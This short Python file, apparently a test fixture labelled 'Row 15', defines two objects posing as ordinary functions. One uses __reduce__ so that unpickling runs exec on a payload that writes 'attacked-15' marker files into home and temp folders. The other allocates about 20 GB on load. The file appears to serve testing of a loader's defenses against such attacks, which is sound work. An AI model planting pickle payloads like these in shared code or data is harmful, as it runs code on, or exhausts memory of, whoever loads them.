"""Row 15: a function whose pickle runs a command in whoever loads it, and one that unpacks to gigabytes."""

# cell: echo-server
PAYLOAD = """
import os
for folder in (os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "."):
    try:
        open(os.path.join(folder, "attacked-15"), "w").close()
    except OSError:
        pass
"""


class Parcel:
    __name__ = "echo_server"

    def __call__(self, host, port):
        pass

    def __reduce__(self):
        return exec, (PAYLOAD,)


echo_server = Parcel()

# cell: ask
class Bomb:
    __name__ = "ask"

    def __call__(self, host, port):
        return "noon"

    def __reduce__(self):
        return bytes, (20_000_000_000,)


ask = Bomb()
